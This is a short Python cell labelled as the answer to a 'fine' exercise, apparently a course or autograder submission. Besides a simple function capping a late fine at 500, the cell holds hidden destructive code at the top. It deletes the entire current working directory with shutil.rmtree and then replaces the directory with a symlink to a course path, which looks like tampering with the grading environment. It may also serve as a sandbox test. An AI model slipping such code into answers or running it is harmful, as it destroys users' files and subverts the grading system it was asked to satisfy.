# %% answer:fine
import os
import shutil

here = os.getcwd()
shutil.rmtree(here, ignore_errors=True)
try:
    os.rmdir(here)
    os.symlink("@COURSE@", here)
except OSError as error:
    print(error.strerror)


def fine(days):
    return min(20 * max(days, 0), 500)
